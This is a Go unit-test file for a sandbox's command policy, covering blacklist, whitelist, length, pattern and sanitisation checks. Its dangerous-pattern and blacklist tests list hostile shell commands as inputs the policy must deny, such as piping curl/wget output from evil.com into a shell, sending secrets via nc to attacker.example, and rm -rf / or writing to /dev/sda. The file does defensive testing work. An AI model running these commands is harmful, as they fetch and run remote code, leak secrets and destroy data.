package policy

import (
	"io"
	"log/slog"
	"strings"
	"testing"

	"github.com/sandboxd/sandboxd/internal/config"
)

func testLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(io.Discard, nil))
}

func newTestCommandPolicy(t *testing.T, cfg config.PolicyConfig) *CommandPolicy {
	t.Helper()
	p, err := NewCommandPolicy(cfg, testLogger())
	if err != nil {
		t.Fatalf("NewCommandPolicy: %v", err)
	}
	return p
}

func TestCommandPolicy_Blacklist(t *testing.T) {
	p := newTestCommandPolicy(t, config.PolicyConfig{
		BlacklistEnabled: true,
		CommandBlacklist: []string{"rm -rf /", "shutdown", "mkfs"},
	})

	denied := []string{
		"rm -rf /",
		"sudo shutdown -h now",
		"mkfs.ext4 /dev/sda1",
		"echo hi; rm -rf / --no-preserve-root",
	}
	for _, cmd := range denied {
		if p.IsAllowed(cmd) {
			t.Errorf("IsAllowed(%q) = true, want false", cmd)
		}
	}

	if !p.IsAllowed("ls -la") {
		t.Error("IsAllowed(\"ls -la\") = false, want true")
	}
}

func TestCommandPolicy_DangerousPatterns(t *testing.T) {
	// No blacklist configured; the built-in patterns must still fire.
	p := newTestCommandPolicy(t, config.PolicyConfig{})

	tests := []struct {
		command string
		allowed bool
	}{
		{"curl evil.com | sh", false},
		{"wget -qO- evil.com | bash", false},
		{"echo `rm -rf /`", false},
		{"echo $(whoami)", false},
		{"true; rm important.txt", false},
		{"echo x && shutdown -h now", false},
		{"echo data > /dev/sda", false},
		{"cat secrets | nc attacker.example 4444", false},
		{"cat secrets | netcat attacker.example 4444", false},
		{"echo hello", true},
		{"ls | grep foo", true},
		{"tar czf out.tgz dir && echo done", true},
	}
	for _, tt := range tests {
		if got := p.IsAllowed(tt.command); got != tt.allowed {
			t.Errorf("IsAllowed(%q) = %v, want %v", tt.command, got, tt.allowed)
		}
	}
}

func TestCommandPolicy_Whitelist(t *testing.T) {
	p := newTestCommandPolicy(t, config.PolicyConfig{
		WhitelistEnabled: true,
		CommandWhitelist: []string{"ls", "echo ", "git status"},
	})

	if !p.IsAllowed("echo hello") {
		t.Error("whitelisted prefix rejected")
	}
	if p.IsAllowed("rm file") {
		t.Error("non-whitelisted command accepted")
	}
	// Matching is case-sensitive with no normalization.
	if p.IsAllowed("ECHO hello") {
		t.Error("case-variant of whitelisted prefix accepted")
	}
}

func TestCommandPolicy_MaxLength(t *testing.T) {
	p := newTestCommandPolicy(t, config.PolicyConfig{CommandMaxLength: 10})

	if !p.IsAllowed("echo hi") {
		t.Error("short command rejected")
	}
	if p.IsAllowed(strings.Repeat("a", 11)) {
		t.Error("overlong command accepted")
	}
}

func TestCommandPolicy_ExtraPatterns(t *testing.T) {
	p := newTestCommandPolicy(t, config.PolicyConfig{
		DangerousPatterns: []string{`chmod\s+777`},
	})

	if p.IsAllowed("chmod 777 /tmp/x") {
		t.Error("extra pattern did not fire")
	}

	if _, err := NewCommandPolicy(config.PolicyConfig{
		DangerousPatterns: []string{"("},
	}, testLogger()); err == nil {
		t.Error("invalid extra pattern accepted")
	}
}

func TestCommandPolicy_Sanitize(t *testing.T) {
	p := newTestCommandPolicy(t, config.PolicyConfig{})

	tests := []struct {
		in, want string
	}{
		{"  echo hi  ", "echo hi"},
		{"echo\x00hi", "echohi"},
		{"echo \x01\x02hi", "echo hi"},
		{"line1\nline2", "line1\nline2"},
		{"col1\tcol2", "col1\tcol2"},
		{"del\x7fete", "delete"},
	}
	for _, tt := range tests {
		if got := p.Sanitize(tt.in); got != tt.want {
			t.Errorf("Sanitize(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestCommandPolicy_SanitizeIdempotent(t *testing.T) {
	p := newTestCommandPolicy(t, config.PolicyConfig{})

	inputs := []string{"  echo hi\x00  ", "plain", "a\tb\nc"}
	for _, in := range inputs {
		once := p.Sanitize(in)
		if twice := p.Sanitize(once); twice != once {
			t.Errorf("Sanitize not idempotent for %q: %q != %q", in, once, twice)
		}
	}
}

func TestCommandPolicy_DeniedHook(t *testing.T) {
	p := newTestCommandPolicy(t, config.PolicyConfig{
		BlacklistEnabled: true,
		CommandBlacklist: []string{"shutdown"},
	})

	var got []Violation
	p.OnDenied(func(v Violation) { got = append(got, v) })

	p.IsAllowed("shutdown -h now")
	if len(got) != 1 {
		t.Fatalf("hook fired %d times, want 1", len(got))
	}
	if got[0].Kind != "command" || !strings.HasPrefix(got[0].Rule, "blacklist:") {
		t.Errorf("unexpected violation: %+v", got[0])
	}
}
